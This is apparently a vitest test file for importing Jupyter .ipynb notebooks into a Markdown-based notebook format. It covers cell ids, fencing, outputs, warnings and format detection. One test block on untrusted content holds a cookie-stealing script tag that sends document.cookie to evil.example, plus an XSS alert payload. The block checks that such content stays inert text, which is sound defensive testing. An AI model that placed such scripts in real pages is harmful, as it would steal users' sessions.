/**
 * Reading .ipynb files into notebooks: what Jupyter writes, prose the Markdown format must
 * protect, cell ids, untrusted content, the lenient parts of import, and telling the two
 * notebook formats apart. Damaged files are in ipynb-import-errors.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { detectNotebookFormat, ipynbToNotebook } from '../../../src/notebook/ipynb';
import { parseNotebook } from '../../../src/notebook/parse';
import { serializeNotebook } from '../../../src/notebook/serialize';
import { PNG_1X1, minimalIpynb, readFixture, withoutLines } from '../helpers/ipynb';

describe('importing a notebook written by Jupyter', () => {
  const imported = ipynbToNotebook(readFixture('jupyter-deno.ipynb'), 'notebooks/Card Fraud.ipynb');
  const { notebook: nb, outputs } = imported;

  it('joins string[] sources and keeps Jupyter ids of code cells', () => {
    const codeCells = nb.cells.filter((c) => c.kind === 'code');
    expect(codeCells.map((c) => c.id)).toEqual(['e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64', '0c5d8e21', '9f2b7d44', '5a7c3e90', 'c3b8f1d2']);
    expect(codeCells[1]!.source).toBe('const mean = amounts.reduce((a, b) => a + b, 0) / amounts.length;\nmean');
    expect(codeCells[4]!.source).toBe('');
  });

  it('merges consecutive Markdown cells and puts a raw cell in a text fence', () => {
    expect(nb.cells.map((c) => [c.kind, c.id])).toEqual([
      ['markdown', 'md-1'],
      ['code', 'e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64'],
      ['code', '0c5d8e21'],
      ['code', '9f2b7d44'],
      ['markdown', 'md-2'],
      ['code', '5a7c3e90'],
      ['code', 'c3b8f1d2'],
    ]);
    expect(nb.cells[0]!.source).toBe(
      "# Card transactions: a first look\n\nWe load a small sample and count frauds. Written in **Deno**'s Jupyter kernel." +
        '\n\nAmounts are in euros (€); the ratio is *très* skewed.',
    );
    expect(nb.cells[4]!.source).toBe('```text\nTODO: ask the risk team which threshold they use.\nExport with: jupyter nbconvert --to html\n```');
  });

  it('reads flags from Jupyter metadata', () => {
    expect(nb.cells.map((c) => (c.kind === 'code' ? c.flags : null))).toEqual([null, {}, {}, { hidden: true, readonly: true }, null, {}, {}]);
  });

  it('takes the title from the first heading and the id from the file name', () => {
    expect(nb.meta).toEqual({ id: 'Card-Fraud', title: 'Card transactions: a first look', summary: '', order: 0, tags: [] });
  });

  it('keeps every output of the cells that have them', () => {
    expect([...outputs.keys()]).toEqual(['e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64', '0c5d8e21', '9f2b7d44', '5a7c3e90']);
    expect(outputs.get('e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64')).toEqual([{ output_type: 'stream', name: 'stdout', text: 'rows: 5\nfrauds: 1\n' }]);
    expect(outputs.get('0c5d8e21')).toEqual([
      { output_type: 'execute_result', data: { 'text/plain': '\u001b[33m209.69\u001b[39m' }, metadata: {}, execution_count: 2 },
    ]);
    expect(outputs.get('9f2b7d44')).toEqual([
      { output_type: 'display_data', data: { 'image/png': PNG_1X1, 'text/plain': '<Figure: amounts histogram>' }, metadata: {} },
    ]);
    expect(outputs.get('5a7c3e90')!.map((o) => o.output_type)).toEqual(['stream', 'error']);
    expect(outputs.get('5a7c3e90')![1]).toMatchObject({ ename: 'TypeError', traceback: expect.arrayContaining(['    at <anonymous>:2:22']) });
    expect(imported.warnings).toEqual([]);
  });

  it('saves as Markdown that parses back to the same cells and metadata', () => {
    const back = parseNotebook(serializeNotebook(nb), 'card-fraud.md');
    expect(back.meta).toEqual(nb.meta);
    expect(withoutLines(back.cells)).toEqual(nb.cells);
  });
});

describe('importing prose the Markdown format must protect', () => {
  const text = minimalIpynb([
    { cell_type: 'markdown', metadata: {}, source: 'Run this:\n\n```ts\nconst a = 1;\n```\n' },
    { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: 'const b = 2;\r\nb' },
    { cell_type: 'markdown', metadata: {}, source: ['Unclosed:\n', '~~~python\n', 'print(1)'] },
    { cell_type: 'markdown', metadata: {}, source: '\n\n   \n' },
    { cell_type: 'raw', metadata: {}, source: 'has ``` inside' },
    { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: ['```\n', '`x`'] },
  ]);
  const { notebook: nb } = ipynbToNotebook(text, 'prose.ipynb');

  it('keeps a ts fence in prose as an example, not a code cell', () => {
    expect(nb.cells[0]).toEqual({ kind: 'markdown', id: 'md-1', source: 'Run this:\n\n ```ts\nconst a = 1;\n```' });
  });

  it('closes a fence a Markdown cell left open and drops blank cells', () => {
    expect(nb.cells[2]!.source).toBe('Unclosed:\n~~~python\nprint(1)\n~~~\n\n````text\nhas ``` inside\n````');
  });

  it('normalises CRLF line endings in code and names cells without ids cell-<n>', () => {
    expect(nb.cells.filter((c) => c.kind === 'code').map((c) => [c.id, c.source])).toEqual([
      ['cell-1', 'const b = 2;\nb'],
      ['cell-2', '```\n`x`'],
    ]);
  });

  it('saves as Markdown that parses back to the same cells', () => {
    const back = parseNotebook(serializeNotebook(nb), 'prose.md');
    expect(withoutLines(back.cells)).toEqual(nb.cells);
    expect(back.meta).toEqual({ id: 'prose', title: 'prose', summary: '', order: 0, tags: [] });
  });
});

describe('cell ids on import', () => {
  const cell = (id: unknown, fieldbookId?: string): Record<string, unknown> => ({
    cell_type: 'code',
    execution_count: null,
    ...(id === undefined ? {} : { id }),
    metadata: fieldbookId === undefined ? {} : { fieldbook: { id: fieldbookId } },
    outputs: [],
    source: '',
  });

  it('prefers metadata.fieldbook.id to the Jupyter id', () => {
    const { notebook: nb } = ipynbToNotebook(minimalIpynb([cell('step-1', 'step.1')]));
    expect(nb.cells[0]!.id).toBe('step.1');
  });

  it('cleans Jupyter ids to the Fieldbook id pattern', () => {
    const { notebook: nb } = ipynbToNotebook(minimalIpynb([cell('_private'), cell('--'), cell('ok_1')]));
    expect(nb.cells.map((c) => c.id)).toEqual(['private', 'cell-2', 'ok_1']);
  });

  it('renames duplicate ids and says so in warnings', () => {
    const md = { cell_type: 'markdown', metadata: {}, source: 'prose' };
    const { notebook: nb, warnings } = ipynbToNotebook(minimalIpynb([md, cell('x'), cell('x'), cell('md-1')]));
    expect(nb.cells.map((c) => c.id)).toEqual(['md-1', 'x', 'x-2', 'md-1-2']);
    expect(warnings).toEqual([
      'Renamed the id of cell 3 from `x` to `x-2`: another cell already has that id.',
      'Renamed the id of cell 4 from `md-1` to `md-1-2`: another cell already has that id.',
    ]);
    expect(parseNotebook(serializeNotebook(nb)).cells.map((c) => c.id)).toEqual(['md-1', 'x', 'x-2', 'md-1-2']);
  });
});

describe('importing untrusted content', () => {
  const { notebook: nb, outputs } = ipynbToNotebook(readFixture('script-tag.ipynb'), 'script-tag.ipynb');

  it('keeps a <script> tag in Markdown as text', () => {
    expect(nb.cells[0]!.source).toContain("<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>");
  });

  it('keeps text/html outputs as strings and runs no cell', () => {
    expect(outputs.get('a4b5c6d7')![0]).toMatchObject({ data: { 'text/html': "<b>hi</b><script>alert('xss')</script>" } });
    expect((globalThis as { pwned?: unknown }).pwned).toBeUndefined();
  });
});

describe('lenient parts of import', () => {
  it('accepts a JavaScript notebook and one without language metadata', () => {
    const js = { kernelspec: { name: 'javascript', display_name: 'JavaScript (Node.js)', language: 'javascript' } };
    expect(ipynbToNotebook(minimalIpynb([], js)).notebook.cells).toEqual([]);
    expect(ipynbToNotebook('{"cells":[],"nbformat":4,"nbformat_minor":2}').notebook.meta.title).toBe('Untitled notebook');
  });

  it('leaves out a malformed output with a warning and keeps the others', () => {
    const raw = {
      cell_type: 'code',
      id: 'c',
      execution_count: 1,
      metadata: {},
      source: 'x',
      outputs: [
        { output_type: 'pyout', text: 'x' },
        { output_type: 'stream', name: 'stdout', text: ['a\n', 'b'] },
      ],
    };
    const { outputs, warnings } = ipynbToNotebook(minimalIpynb([raw]));
    expect(outputs.get('c')).toEqual([{ output_type: 'stream', name: 'stdout', text: 'a\nb' }]);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^Left out output 1 of cell 1 \(id c\): output_type `pyout`/);
  });

  it('warns that Markdown attachments are left out', () => {
    const md = { cell_type: 'markdown', metadata: {}, source: '![x](attachment:x.png)', attachments: { 'x.png': { 'image/png': PNG_1X1 } } };
    expect(ipynbToNotebook(minimalIpynb([md])).warnings).toEqual([
      'Left out the attachments (pasted images) of cell 1: Fieldbook notebooks do not store them.',
    ]);
  });

  it('takes front matter from metadata.fieldbook before the heading and file name', () => {
    const meta = { fieldbook: { id: 'x.y', title: 'T', summary: 'S', order: 2.5, tags: ['t', 4] }, title: 'Other' };
    const md = { cell_type: 'markdown', metadata: {}, source: '# Heading' };
    expect(ipynbToNotebook(minimalIpynb([md], meta), 'file.ipynb').notebook.meta).toEqual({
      id: 'x.y',
      title: 'T',
      summary: 'S',
      order: 2.5,
      tags: ['t', '4'],
    });
  });
});

describe('detectNotebookFormat', () => {
  it('goes by the extension first', () => {
    expect(detectNotebookFormat('a/b/Fraud.IPYNB', '---\n')).toBe('ipynb');
    expect(detectNotebookFormat('fraud.md', '{"nbformat": 4}')).toBe('markdown');
    expect(detectNotebookFormat('fraud.markdown', '')).toBe('markdown');
  });

  it('sniffs the content when the extension says nothing', () => {
    expect(detectNotebookFormat('download', '\uFEFF \n{\n "cells": [],\n "nbformat": 4\n}')).toBe('ipynb');
    expect(detectNotebookFormat('notebook.txt', '---\r\ntitle: T\r\n---\r\n')).toBe('markdown');
    expect(detectNotebookFormat('data.json', '{"rows": []}')).toBe('unknown');
    expect(detectNotebookFormat('x', '# Just markdown')).toBe('unknown');
  });
});
